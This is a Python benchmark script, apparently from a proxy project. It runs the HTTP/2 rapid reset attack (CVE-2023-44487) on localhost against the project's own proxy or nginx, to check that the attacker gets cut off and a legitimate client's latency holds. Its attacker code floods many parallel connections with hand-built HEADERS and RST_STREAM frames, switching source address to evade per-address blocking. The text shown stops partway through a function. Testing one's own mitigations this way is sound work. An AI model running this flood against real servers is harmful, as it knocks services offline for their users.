#!/usr/bin/env python3
"""Rapid reset (CVE-2023-44487) against Weir (or nginx): the attacker is cut off, a legitimate
client is not.

Issue 19's done-when: "A client opening and resetting 100,000 streams is cut off with GOAWAY
while a second client keeps its p99 within 2x of before."

Starts on 127.0.0.1 a small keep-alive HTTP/1.1 backend (this file, ``--serve-backend``; it
counts the requests and connections it gets) pinned to the load CPU, and the proxy under test
pinned to the proxy CPU: by default (``--target weir``) Weir from this checkout (``python -m
proxy run``, one process, one service to the backend; HTTP/2 clients reach it with prior
knowledge, h2c). Then:

1. **Baseline** (``--baseline`` s, after a 1 s warm-up): a legitimate client on one h2c
   connection (the ``h2`` package) sends GETs at a fixed rate (``--rate``, 500/s by default:
   an open loop, so a slow answer does not slow the requests that follow) and records each
   request's latency, from the write of its HEADERS to the end of its answer.
2. **Attack**: the same client goes on while an attacker (this file, ``--attack``, its own
   process on the load CPU at ``--attacker-nice``) opens h2c connections, ``--parallel`` at a
   time, and on each writes HEADERS (a whole GET) then RST_STREAM(CANCEL) for new streams as
   fast as it can, in batches of ``--batch``, until the proxy sends GOAWAY or closes (at most
   ``--ahead`` pairs before the proxy's answer); then it opens another, from its own address
   (``--attacker-address``, 127.0.0.2: Weir refuses HTTP/2 to an address it has just cut, and
   the legit client is on 127.0.0.1). It stops once it has written ``--streams`` (100,000)
   streams, or after ``--max-attack-seconds``. Connections the proxy closes before sending
   anything (the address refused) are counted apart from those cut with GOAWAY.
3. **After** (``--after`` s): the client alone again, to see the proxy recover.

``--target nginx`` runs the same against nginx instead (it must be installed), to see whether
a mature proxy meets the 2x target on the same machine in the same conditions: one worker
(``worker_processes 1``, ``master_process on``, ``daemon off``) pinned to the proxy CPU with
taskset as Weir is, ``listen ... http2`` (h2c with prior knowledge, nginx 1.22's syntax), an
``upstream`` to the same backend over HTTP/1.1 with ``keepalive 32``, config, pid and logs in
the run's temp dir (bench/run.py's ``nginx_proxy_conf``, so ``keepalive_requests 1000000`` as
in every bench here: nginx's own default, 1000, would end each connection, the legit client's
too, after 1,000 streams). The attacker is the same, with the same bounds. nginx has no
per-address penalty, so every reconnection is served. It refuses (RST_STREAM REFUSED_STREAM)
the new streams past 256 in one pass of its event loop (``2 * http2_max_concurrent_streams``:
the per-iteration limit nginx 1.25.3 added for this CVE, which Debian's 1.22.1 has as a
backport), and once it has refused about 130 on a connection it ends it with GOAWAY(NO_ERROR)
("client sent too many refused streams", at info level in its log). nginx's equivalents
of Weir's numbers come from its access log (``$msec $status $uri``, buffered, read when the
run is over): its requests by status per phase (a stream reset before its answer is a 499)
and the attack's streams it took (its requests for the attack's path; a refused stream is no
request). Weir's log count of cuts has no equivalent (nginx logs its cuts at info level only,
with a line per refused stream, too costly to turn on here) and is left out.

Reported: the client's p50/p99/max and errors per phase, p99 during / p99 before (the target is
at most 2); the attacker's streams sent and taken, connections, how each ended (GOAWAY and its
error code; ENHANCE_YOUR_CALM is 0xb), streams per connection before the cut; the proxy's own
count of the cuts (Weir's log) and of the reset streams (Weir's ``http_requests_total`` with
status 499; nginx's access log); the backend's requests; CPU seconds of the proxy (all its
processes), the attacker and the rest per phase; /proc/loadavg.

Placement: by default the backend and the attacker share the load CPU, and this process (the
legit client) goes where the scheduler puts it. On a 2-CPU machine the attack's own cost (its
connects and writes, and the kernel's work for them) then lands on the client's or the
backend's CPU. ``--load-cpus 0 --attacker-cpus 1 --client-cpus 0`` gives the attacker a CPU of
its own and puts the client and backend beside the proxy, which then pays for its own part only.

Everything listens on 127.0.0.1 and is stopped at the end, on Ctrl-C or an error; the run is
bounded (``--max-attack-seconds`` plus about 20 s). Standard library plus ``h2`` (the client);
``--target nginx`` also needs nginx and nghttp (nghttp2-client: the check that nginx answers).

    python bench/rapid_reset.py
    python bench/rapid_reset.py --streams 20000 --json reset.json
    python bench/rapid_reset.py --target nginx
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import math
import os
import re
import resource
import shlex
import signal
import statistics
import sys
import tempfile
import time
import urllib.request
from collections import Counter
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import (
    ConnectionTerminated,
    DataReceived,
    RemoteSettingsChanged,
    ResponseReceived,
    StreamEnded,
    StreamReset,
)
from h2.exceptions import ProtocolError

sys.path.insert(0, str(Path(__file__).resolve().parent))
import run as bench

HOST = bench.HOST
TARGET_RATIO = 2.0  # the bound on p99 during the attack / p99 before
RESPONSE = b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: 12\r\n\r\nhello world\n"
STATS_PATH = b"/__backend_stats"
LEGIT_PATH = "/legit"
ATTACK_PATH = "/rapid-reset"
WARMUP_S = 1.0
DRAIN_S = 3.0  # after the last phase, how long the client waits for answers still due

# HTTP/2 (RFC 9113)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
ERROR_NAMES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR",
               0x3: "FLOW_CONTROL_ERROR", 0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED",
               0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM", 0x8: "CANCEL",
               0x9: "COMPRESSION_ERROR", 0xA: "CONNECT_ERROR", 0xB: "ENHANCE_YOUR_CALM",
               0xC: "INADEQUATE_SECURITY", 0xD: "HTTP_1_1_REQUIRED"}
ENHANCE_YOUR_CALM = 0xB


# --------------------------------------------------------------------------
# Frames and HPACK, by hand: the attacker's frames are templates
# --------------------------------------------------------------------------


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id, payload."""
    return (len(payload).to_bytes(3, "big") + bytes((kind, flags))
            + (stream_id & 0x7FFFFFFF).to_bytes(4, "big") + payload)


def hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """An HPACK integer (RFC 7541 5.1) with ``prefix_bits`` in the first byte, whose other
    bits are ``first``."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack_literal(name_index: int, value: bytes) -> bytes:
    """A literal field without indexing whose name is in the static table (RFC 7541 6.2.2):
    nothing enters the dynamic table, so the same bytes decode the same on every stream."""
    return hpack_int(name_index, 4) + hpack_int(len(value), 7) + value


def request_block(authority: str, path: str) -> bytes:
    """The header block of ``GET path`` over http: :method GET (static 2), :scheme http
    (static 6), :authority (name 1) and :path (name 4) as literals."""
    return (b"\x82\x86" + hpack_literal(1, authority.encode())
            + hpack_literal(4, path.encode()))


def attack_pair(stream_id: int, block: bytes) -> bytes:
    """HEADERS (a whole GET: END_HEADERS | END_STREAM) then RST_STREAM(CANCEL) on one stream."""
    return (frame(HEADERS, END_HEADERS | END_STREAM, stream_id, block)
            + frame(RST_STREAM, 0, stream_id, CANCEL.to_bytes(4, "big")))


def parse_frames(buf: bytearray) -> list[tuple[int, int, int, bytes]]:
    """The whole frames at the start of ``buf`` as (type, flags, stream id, payload), taken
    out of it; a partial frame stays."""
    frames = []
    pos = 0
    while len(buf) - pos >= 9:
        length = int.from_bytes(buf[pos:pos + 3], "big")
        end = pos + 9 + length
        if len(buf) < end:
            break
        stream_id = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
        frames.append((buf[pos + 3], buf[pos + 4], stream_id, bytes(buf[pos + 9:end])))
        pos = end
    del buf[:pos]
    return frames


def parse_goaway(payload: bytes) -> tuple[int, int]:
    """(last stream id, error code) of a GOAWAY frame's payload."""
    return (int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF,
            int.from_bytes(payload[4:8], "big"))


def streams_up_to(last_stream_id: int) -> int:
    """Client-initiated (odd) streams with ids up to ``last_stream_id``."""
    return (last_stream_id + 1) // 2 if last_stream_id > 0 else 0


def error_name(code: int) -> str:
    return f"{ERROR_NAMES.get(code, 'UNKNOWN')} (0x{code:x})"


# --------------------------------------------------------------------------
# Numbers
# --------------------------------------------------------------------------


def nearest_rank(sorted_values: list[float], pct: float) -> float:
    """The ``pct`` percentile (nearest rank) of values sorted ascending; NaN when empty."""
    if not sorted_values:
        return math.nan
    n = len(sorted_values)
    return sorted_values[min(n - 1, max(0, math.ceil(n * pct / 100) - 1))]


@dataclass
class Latency:
    count: int
    p50_ms: float
    p99_ms: float
    max_ms: float


def latency_summary(seconds: list[float]) -> Latency:
    ordered = sorted(seconds)
    return Latency(count=len(ordered), p50_ms=nearest_rank(ordered, 50) * 1000,
                   p99_ms=nearest_rank(ordered, 99) * 1000,
                   max_ms=ordered[-1] * 1000 if ordered else math.nan)


METRIC_LINE = re.compile(r'^http_requests_total\{(?P<labels>[^}]*)\}\s+(?P<value>\S+)')
STATUS_LABEL = re.compile(r'status="(\d+)"')


def requests_by_status(metrics_text: str) -> dict[str, float]:
    """``http_requests_total`` summed by status, from Prometheus text."""
    out: dict[str, float] = {}
    for line in metrics_text.splitlines():
        m = METRIC_LINE.match(line)
        if m is None:
            continue
        status = STATUS_LABEL.search(m["labels"])
        if status is not None:
            out[status[1]] = out.get(status[1], 0.0) + float(m["value"])
    return out


CUT_LINE = re.compile(r"reset (\d+) of (\d+) streams right after opening them \(rapid reset\)")


@dataclass
class LogCuts:
    """Weir's rapid-reset warnings: how many, and per connection the stream count at the
    first (the cut) and at the last (streams it went on opening after the cut)."""

    warnings: int
    opened_at_cut: list[int]
    opened_in_all: list[int]


def cuts_in_log(log_text: str) -> LogCuts:
    """Weir's rapid-reset warnings, grouped by connection. One connection's warnings come
    together (one read's frames are handled at once) and count its streams one by one, so a
    warning whose count is not the last one's plus one starts another connection."""
    at_cut: list[int] = []
    in_all: list[int] = []
    warnings = 0
    for m in CUT_LINE.finditer(log_text):
        opened = int(m[2])
        warnings += 1
        if in_all and opened == in_all[-1] + 1:
            in_all[-1] = opened
        else:
            at_cut.append(opened)
            in_all.append(opened)
    return LogCuts(warnings=warnings, opened_at_cut=at_cut, opened_in_all=in_all)


@dataclass
class ConnRecord:
    """One attacker connection: streams written, what the server said, how it ended."""

    sent: int = 0
    heard: bool = False  # the server sent something (its SETTINGS) before it closed
    goaway_last_stream: int | None = None
    goaway_code: int | None = None
    # goaway, reset, eof (closed without GOAWAY), connect-failed, stopped (by the attack's
    # deadline), timeout (no close after GOAWAY), or an exception's name
    end: str = "open"
    seconds: float = 0.0

    @property
    def taken(self) -> int:
        """Streams Weir says it took on this connection: those up to the GOAWAY's last stream
        id (written ones only); none known without a GOAWAY. What was written past it was
        thrown away unread when Weir closed the connection."""
        if self.goaway_last_stream is None:
            return 0
        return min(self.sent, streams_up_to(self.goaway_last_stream))


@dataclass
class AttackSummary:
    connections: int
    sent: int
    taken: int
    goaways: dict[str, int]  # by error name
    ends: dict[str, int]  # how connections ended, by kind
    without_goaway: int  # and not stopped by the attack's deadline, nor refused at once
    refused: int  # closed by Weir before it sent anything: the address is penalized
    sent_without_goaway: int
    taken_per_cut: dict[str, float]  # min/median/max streams taken on connections cut by GOAWAY
    sent_per_conn: dict[str, float]


def spread(values: list[int]) -> dict[str, float]:
    if not values:
        return {}
    return {"min": min(values), "median": statistics.median(values), "max": max(values)}


def summarize_attack(records: list[ConnRecord]) -> AttackSummary:
    """The attacker's connections summed up (those that never connected are left out)."""
    conns = [r for r in records if r.end != "connect-failed"]
    goaways = Counter(error_name(r.goaway_code) for r in conns if r.goaway_code is not None)
    cut = [r.taken for r in conns if r.goaway_code is not None]
    return AttackSummary(
        connections=len(conns), sent=sum(r.sent for r in conns),
        taken=sum(r.taken for r in conns), goaways=dict(goaways),
        ends=dict(Counter(r.end for r in records)),
        without_goaway=sum(1 for r in conns if r.goaway_code is None and r.end != "stopped"
                           and r.heard),
        refused=sum(1 for r in conns if r.goaway_code is None and not r.heard
                    and r.end in ("eof", "reset")),
        sent_without_goaway=sum(r.sent for r in conns if r.goaway_code is None),
        taken_per_cut=spread(cut), sent_per_conn=spread([r.sent for r in conns]))


# --------------------------------------------------------------------------
# The backend: keep-alive HTTP/1.1, answers at once, counts what it gets
# --------------------------------------------------------------------------


class BackendCounts:
    requests = 0
    connections = 0


async def _backend_connection(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    BackendCounts.connections += 1
    try:
        while True:
            head = await reader.readuntil(b"\r\n\r\n")
            length = 0
            for line in head.split(b"\r\n")[1:]:
                name, _, value = line.partition(b":")
                if name.strip().lower() == b"content-length":
                    length = int(value.strip() or b"0")
            if length:
                await reader.readexactly(length)
            if head.split(b" ", 2)[1:2] == [STATS_PATH]:
                body = json.dumps({"requests": BackendCounts.requests,
                                   "connections": BackendCounts.connections}).encode()
                writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n"
                             b"content-length: %d\r\n\r\n%s" % (len(body), body))
            else:
                BackendCounts.requests += 1
                writer.write(RESPONSE)
            await writer.drain()
    except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, ValueError, OSError):
        pass
    finally:
        writer.close()


async def serve_backend(port: int) -> None:
    server = await asyncio.start_server(_backend_connection, HOST, port, backlog=4096)
    async with server:
        await server.serve_forever()


def backend_counts(port: int) -> dict[str, int]:
    with urllib.request.urlopen(f"http://{HOST}:{port}{STATS_PATH.decode()}", timeout=5) as r:
        counts: dict[str, int] = json.loads(r.read())
    return counts


def weir_requests(admin_port: int) -> dict[str, float]:
    with urllib.request.urlopen(f"http://{HOST}:{admin_port}/metrics", timeout=5) as r:
        return requests_by_status(r.read().decode())


# --------------------------------------------------------------------------
# The attacker (its own process: ``--attack``)
# --------------------------------------------------------------------------


class AttackConnection(asyncio.Protocol):
    def __init__(self, record: ConnRecord) -> None:
        self.record = record
        self.buf = bytearray()
        self.transport: Any = None  # uvloop's transports are not asyncio.Transport
        self.lost: asyncio.Future[None] = asyncio.get_running_loop().create_future()
        self.writable = asyncio.Event()
        self.writable.set()
        self.answered = asyncio.Event()  # GOAWAY, or the connection is gone

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport
        self.transport.write(PREFACE + frame(SETTINGS, 0, 0))

    def data_received(self, data: bytes) -> None:
        self.record.heard = True
        self.buf += data
        for kind, flags, _, payload in parse_frames(self.buf):
            if kind == SETTINGS and not flags & ACK:
                self.transport.write(frame(SETTINGS, ACK, 0))
            elif kind == GOAWAY and self.record.goaway_code is None:
                self.record.goaway_last_stream, self.record.goaway_code = parse_goaway(payload)
                self.answered.set()

    def pause_writing(self) -> None:
        self.writable.clear()

    def resume_writing(self) -> None:
        self.writable.set()

    def connection_lost(self, exc: Exception | None) -> None:
        if self.record.end == "stopped":  # by the attacker, its streams all sent
            pass
        elif self.record.goaway_code is not None:
            self.record.end = "goaway"
        elif exc is None:
            self.record.end = "eof"
        elif isinstance(exc, ConnectionResetError):
            self.record.end = "reset"
        else:
            self.record.end = type(exc).__name__
        self.writable.set()
        self.answered.set()
        if not self.lost.done():
            self.lost.set_result(None)


@dataclass
class AttackState:
    target: int
    deadline: float
    source: str = "127.0.0.1"  # the attacker's own address (see --attacker-address)
    taken: int = 0  # by connections over
    sent: int = 0  # streams written, by connections over
    records: list[ConnRecord] = field(default_factory=list)

    def more(self) -> bool:
        return self.sent < self.target and time.monotonic() < self.deadline


async def attack_one(port: int, block: bytes, batch: int, ahead: int,
                     state: AttackState) -> None:
    """One connection: pairs of HEADERS + RST_STREAM, ``batch`` at a time, as fast as the
    connection takes them, until the server sends GOAWAY or closes (or the deadline passes); at
    most ``ahead`` pairs, then it waits for the server's answer (a server reads only so much
    before it decides: more written is thrown away unread, and costs the attacker's CPU)."""
    loop = asyncio.get_running_loop()
    record = ConnRecord()
    state.records.append(record)
    t0 = time.monotonic()
    try:
        transport, proto = await loop.create_connection(
            lambda: AttackConnection(record), HOST, port, local_addr=(state.source, 0))
    except OSError as exc:
        record.end = "connect-failed"
        print(f"attacker: connect failed: {exc}", file=sys.stderr)
        await asyncio.sleep(0.05)
        return
    stream_id = 1
    try:
        while not proto.lost.done() and record.goaway_code is None:
            if time.monotonic() >= state.deadline:
                record.end = "stopped"
                break
            if record.sent >= ahead:
                # Wait for the cut; a server that never cuts keeps this one to the deadline.
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(proto.answered.wait(),
                                           max(0.0, state.deadline - time.monotonic()))
                continue
            transport.write(b"".join(attack_pair(stream_id + 2 * i, block)
                                     for i in range(batch)))
            record.sent += batch
            stream_id += 2 * batch
            await proto.writable.wait()
            await asyncio.sleep(0)  # let the reader see a GOAWAY
        if record.end != "stopped":
            # A server closes after its GOAWAY; wait for that, briefly.
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(asyncio.shield(proto.lost), 2.0)
    finally:
        transport.abort()
        if record.end == "open":
            record.end = "timeout"
        record.seconds = time.monotonic() - t0
        state.taken += record.taken
        state.sent += record.sent


async def attack(port: int, target: int, seconds: float, parallel: int, batch: int,
                 ahead: int, source: str = HOST) -> dict[str, Any]:
    block = request_block(f"{HOST}:{port}", ATTACK_PATH)
    state = AttackState(target=target, deadline=time.monotonic() + seconds, source=source)
    start = time.monotonic()

    async def worker() -> None:
        while state.more():
            await attack_one(port, block, batch, ahead, state)

    await asyncio.gather(*(worker() for _ in range(parallel)))
    end = time.monotonic()
    usage = resource.getrusage(resource.RUSAGE_SELF)
    return {"start": start, "end": end, "cpu_s": usage.ru_utime + usage.ru_stime,
            "records": [asdict(r) for r in state.records]}


def run_attacker(args: argparse.Namespace) -> int:
    with contextlib.suppress(ImportError):
        import uvloop  # as fast as it can: the faster loop when there is one

        asyncio.set_event_loop_policy(uvloop.EventLoopPolicy())
    result = asyncio.run(attack(args.attack, args.streams, args.max_attack_seconds,
                                args.parallel, args.batch, args.ahead, args.attacker_address))
    Path(args.attack_out).write_text(json.dumps(result))
    return 0


# --------------------------------------------------------------------------
# The legitimate client: one h2c connection, GETs at a fixed rate
# --------------------------------------------------------------------------


@dataclass
class Sample:
    due: float  # loop.time() the request was due
    sent: float = math.nan  # when its HEADERS were written
    done: float = math.nan  # when its answer ended
    status: int = 0
    error: str = ""


class LegitConnection(asyncio.Protocol):
    """The client's side of one h2c connection (the h2 package)."""

    def __init__(self, client: LegitClient) -> None:
        self.client = client
        self.h2 = H2Connection(H2Configuration(client_side=True, header_encoding=None))
        self.transport: asyncio.Transport | None = None
        self.streams: dict[int, Sample] = {}
        self.lost: asyncio.Future[None] = asyncio.get_running_loop().create_future()
        self.ready: asyncio.Future[None] = asyncio.get_running_loop().create_future()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport
        self.h2.initiate_connection()
        transport.write(self.h2.data_to_send())

    def capacity(self) -> int:
        limit = self.h2.remote_settings.max_concurrent_streams
        return limit - self.h2.open_outbound_streams

    def send(self, sample: Sample, headers: list[tuple[bytes, bytes]]) -> None:
        stream_id = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream_id, headers, end_stream=True)
        assert self.transport is not None
        self.transport.write(self.h2.data_to_send())
        sample.sent = time.monotonic()
        self.streams[stream_id] = sample

    def data_received(self, data: bytes) -> None:
        now = time.monotonic()
        try:
            events = self.h2.receive_data(data)
        except ProtocolError as exc:
            self.fail(f"protocol error: {exc}")
            return
        for event in events:
            if isinstance(event, ResponseReceived):
                sample = self.streams.get(event.stream_id)
                if sample is not None:
                    sample.status = int(dict(event.headers).get(b":status", b"0"))
            elif isinstance(event, DataReceived):
                self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, StreamEnded):
                sample = self.streams.pop(event.stream_id, None)
                if sample is not None:
                    sample.done = now
                    if sample.status != 200:
                        sample.error = f"status {sample.status}"
            elif isinstance(event, StreamReset):
                sample = self.streams.pop(event.stream_id, None)
                if sample is not None:
                    sample.done = now
                    sample.error = f"stream reset {error_name(int(event.error_code or 0))}"
            elif isinstance(event, ConnectionTerminated):
                self.fail(f"GOAWAY {error_name(int(event.error_code or 0))}")
                return
            elif isinstance(event, RemoteSettingsChanged) and not self.ready.done():
                self.ready.set_result(None)
        out = self.h2.data_to_send()
        if out and self.transport is not None:
            self.transport.write(out)
        self.client.pump()

    def fail(self, why: str) -> None:
        now = time.monotonic()
        for sample in self.streams.values():
            sample.done = now
            sample.error = f"connection lost ({why})"
        self.streams.clear()
        if self.transport is not None:
            self.transport.close()
        if not self.lost.done():
            self.lost.set_result(None)

    def connection_lost(self, exc: Exception | None) -> None:
        self.fail(type(exc).__name__ if exc else "closed")


class LegitClient:
    """Requests due at a fixed rate, sent on one connection as the server's stream limit
    allows; a lost connection is opened again (and its streams are errors)."""

    def __init__(self, port: int, rate: float) -> None:
        self.port = port
        self.interval = 1.0 / rate
        self.headers = [(b":method", b"GET"), (b":scheme", b"http"),
                        (b":authority", f"{HOST}:{port}".encode()),
                        (b":path", LEGIT_PATH.encode()), (b"user-agent", b"weir-rapid-reset")]
        self.samples: list[Sample] = []
        self.queue: list[Sample] = []  # due, not yet sent (the stream limit)
        self.conn: LegitConnection | None = None
        self.reconnects = 0
        self.max_in_flight = 0
        self.stopping = False

    async def connect(self) -> None:
        loop = asyncio.get_running_loop()
        _, proto = await loop.create_connection(lambda: LegitConnection(self), HOST, self.port)
        await asyncio.wait_for(proto.ready, 5)
        self.conn = proto

    def pump(self) -> None:
        conn = self.conn
        if conn is None or conn.lost.done():
            return
        while self.queue and conn.capacity() > 0:
            conn.send(self.queue.pop(0), self.headers)
        self.max_in_flight = max(self.max_in_flight, len(conn.streams))

    async def run(self) -> None:
        loop = asyncio.get_running_loop()
        due = loop.time()
        while not self.stopping:
            if self.conn is None or self.conn.lost.done():
                if self.conn is not None:
                    self.reconnects += 1
                self.conn = None
                try:
                    await self.connect()
                except (OSError, TimeoutError) as exc:
                    print(f"legit client: connect failed: {exc}", file=sys.stderr)
                    await asyncio.sleep(0.1)
                    continue
            now = loop.time()
            while due <= now:
                sample = Sample(due=due)
                self.samples.append(sample)
                self.queue.append(sample)
                due += self.interval
            self.pump()
            await asyncio.sleep(max(0.0, due - loop.time()))

    def close(self) -> None:
        if self.conn is not None and self.conn.transport is not None:
            self.conn.transport.close()


@dataclass
class PhaseResult:
    name: str
    seconds: float
    latency: Latency
    from_due: Latency  # from when each request was due: with the client's delays
    lag_p99_ms: float  # requests' HEADERS written after they were due: the client's own delay
    due: int
    errors: dict[str, int]
    unanswered: int  # sent, and no answer by the end of the run
    unsent: int  # still waiting for a stream slot at the end of the run
    proxy_cpu_s: float  # the proxy's processes (Weir; nginx's master and worker)
    proxy_cpu_pct: float
    backend_cpu_s: float
    proxy_cpu_busy_pct: float | None
    load_cpu_busy_pct: float | None
    other_cpu_pct: float  # CPU (% of one core) of processes this benchmark did not start
    proxy_requests: dict[str, float]  # by status: Weir's /metrics, nginx's access log
    backend: dict[str, int]


def phase_samples(samples: list[Sample], t0: float, t1: float) -> list[Sample]:
    """The samples due in [t0, t1) (loop.time())."""
    return [s for s in samples if t0 <= s.due < t1]


@dataclass
class PhaseLatency:
    from_sent: Latency  # answered requests (200s), from their HEADERS written to the end
    from_due: Latency  # the same requests from when they were due
    errors: dict[str, int]  # by kind
    unanswered: int  # sent, and no answer by the end of the run
    unsent: int  # still waiting for a stream slot at the end of the run
    lag_p99_ms: float  # p99 of how late requests were sent


def phase_latency(samples: list[Sample]) -> PhaseLatency:
    """Latencies, errors and unanswered requests of a phase. A request is sent late when the
    client's own process is slow to run, or when it waits for a stream slot while the
    server's limit of streams is reached (answers that do not come): the time from when it
    was due counts both, the time from when it was sent neither."""
    ok = [s for s in samples if not s.error and not math.isnan(s.done)]
    lag = sorted(s.sent - s.due for s in samples if not math.isnan(s.sent))
    return PhaseLatency(
        from_sent=latency_summary([s.done - s.sent for s in ok]),
        from_due=latency_summary([s.done - s.due for s in ok]),
        errors=dict(Counter(s.error for s in samples if s.error)),
        unanswered=sum(1 for s in samples if not s.error and math.isnan(s.done)
                       and not math.isnan(s.sent)),
        unsent=sum(1 for s in samples if math.isnan(s.sent)),
        lag_p99_ms=nearest_rank(lag, 99) * 1000)


# --------------------------------------------------------------------------
# The run
# --------------------------------------------------------------------------


@dataclass
class Snapshot:
    """What is read at a phase boundary."""

    t: float  # loop.time() == time.monotonic()
    wall: float  # time.time(), to place the lines of nginx's access log
    proxy_cpu: float
    backend_cpu: float
    proxy_ticks: tuple[int, int]
    load_ticks: tuple[int, int]
    all_ticks: tuple[int, int]
    own_cpu: float  # the proxy, the backend, this process and its children waited for (the
    # attacker)
    proxy_requests: dict[str, float]  # Weir's, by status; nginx's come from its log afterwards
    backend: dict[str, int]


def diff_counts(a: dict[str, Any], b: dict[str, Any]) -> dict[str, Any]:
    return {k: b.get(k, 0) - a.get(k, 0) for k in sorted(set(a) | set(b))
            if b.get(k, 0) - a.get(k, 0)}


def busy_pct(a: tuple[int, int], b: tuple[int, int]) -> float | None:
    idle, total = b[0] - a[0], b[1] - a[1]
    return None if total <= 0 else 100.0 * (total - idle) / total


def other_pct(a: Snapshot, b: Snapshot) -> float:
    """CPU busy on the machine between two snapshots that was not ours, in % of one core
    (as bench/run.py's other%)."""
    seconds = b.t - a.t
    if seconds <= 0:
        return 0.0
    idle, total = b.all_ticks[0] - a.all_ticks[0], b.all_ticks[1] - a.all_ticks[1]
    busy = (total - idle) / os.sysconf("SC_CLK_TCK")
    return max(0.0, 100.0 * (busy - (b.own_cpu - a.own_cpu)) / seconds)


def weir_conf(port: int, admin_port: int, backend_port: int) -> str:
    return f"""# generated by bench/rapid_reset.py
listen: {HOST}:{port}
admin: {{listen: {HOST}:{admin_port}}}
watch: false
services:
  - name: bench
    versions:
      stable: {{upstreams: ["{HOST}:{backend_port}"]}}
"""


NGINX_KEEPALIVE = 32  # idle upstream connections nginx keeps (``keepalive`` in ``upstream``)
NGINX_LOG_FLUSH_S = 1.5  # its access log is flushed every second (``flush=1s``)


@dataclass
class Proxy:
    """The proxy under test, as started."""

    name: str  # weir or nginx
    proc: bench.Proc
    port: int
    admin_port: int | None = None  # Weir's admin listener (/metrics)
    access_log: Path | None = None  # nginx's
    error_log: Path | None = None  # nginx's

    def requests(self) -> dict[str, float]:
        """Weir's requests by status so far; nginx's are read from its access log once the run
        is over ({} here)."""
        return weir_requests(self.admin_port) if self.admin_port is not None else {}


def access_log_lines(text: str) -> list[tuple[float, str, str]]:
    """(end time, status, path) of each line of nginx's access log (``$msec $status $uri``)."""
    out = []
    for line in text.splitlines():
        parts = line.split(" ", 2)
        if len(parts) == 3:
            with contextlib.suppress(ValueError):
                out.append((float(parts[0]), parts[1], parts[2]))
    return out


def statuses_between(lines: list[tuple[float, str, str]], t0: float,
                     t1: float) -> dict[str, float]:
    """Requests by status that ended in [t0, t1) (time.time())."""
    return {k: float(v) for k, v in sorted(Counter(st for t, st, _ in lines
                                                   if t0 <= t < t1).items())}


def start_weir(args: argparse.Namespace, pm: bench.ProcessManager, taskset: str,
               workdir: Path, backend_port: int) -> Proxy:
    port, admin_port = bench.free_port(), bench.free_port()
    conf = workdir / "weir.yaml"
    conf.write_text(weir_conf(port, admin_port, backend_port))
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(
        p for p in (str(bench.REPO_ROOT), env.get("PYTHONPATH", "")) if p)
    proc = pm.start("weir", [taskset, "-c", args.proxy_cpus, sys.executable, "-m", "proxy",
                             "run", "-c", str(conf), *args.weir_args],
                    cwd=bench.REPO_ROOT, env=env)
    bench.wait_for_port(proc, port, args.startup_timeout)
    bench.wait_for_http_ok(proc, port, args.startup_timeout)
    return Proxy("weir", proc, port, admin_port=admin_port)


def start_nginx(args: argparse.Namespace, pm: bench.ProcessManager, tools: dict[str, str],
                workdir: Path, backend_port: int) -> Proxy:
    """nginx as bench/run.py runs it, with h2c clients, one worker under a master process, and
    an access log to count what it did."""
    port = bench.free_port()
    prefix = workdir / "nginx"
    access_log = prefix / "access.log"
    text = bench.nginx_proxy_conf(prefix, port, backend_port, workers=1, master_process=True,
                                  http2=True, keepalive=NGINX_KEEPALIVE, access_log=access_log)
    proc = bench.start_nginx(pm, tools, workdir, "nginx", args.proxy_cpus, text)
    bench.wait_for_port(proc, port, args.startup_timeout)
    bench.wait_for_h2_ok(proc, port, args.startup_timeout, tools["nghttp"])
    return Proxy("nginx", proc, port, access_log=access_log, error_log=prefix / "error.log")


def loadavg() -> str:
    try:
        return Path("/proc/loadavg").read_text().strip()
    except OSError:
        return "?"


@dataclass
class Outcome:
    target: str  # weir or nginx
    phases: list[PhaseResult]
    attack: AttackSummary
    attack_seconds: float
    attacker_cpu_s: float
    cuts: LogCuts | None  # Weir's log; None for nginx
    proxy_taken: int | None  # nginx: the attack's requests in its access log; None for Weir
    proxy_log_lines: list[str]  # nginx's error log (warn and above); empty for Weir
    legit_reconnects: int
    legit_max_in_flight: int
    backend_attack_requests: int  # the attack's streams the proxy passed on to the backend
    loadavg_start: str
    loadavg_end: str
    ratio: float | None  # p99 during the attack / before, from the requests' sending
    ratio_due: float | None  # the same, from when they were due
    notes: list[str]


async def drive(args: argparse.Namespace, pm: bench.ProcessManager, tools: dict[str, str],
                proxy: Proxy, backend: bench.Proc, backend_port: int,
                workdir: Path) -> tuple[list[PhaseResult], dict[str, Any]]:
    loop = asyncio.get_running_loop()
    proxy_cpus = bench.parse_cpu_list(args.proxy_cpus)
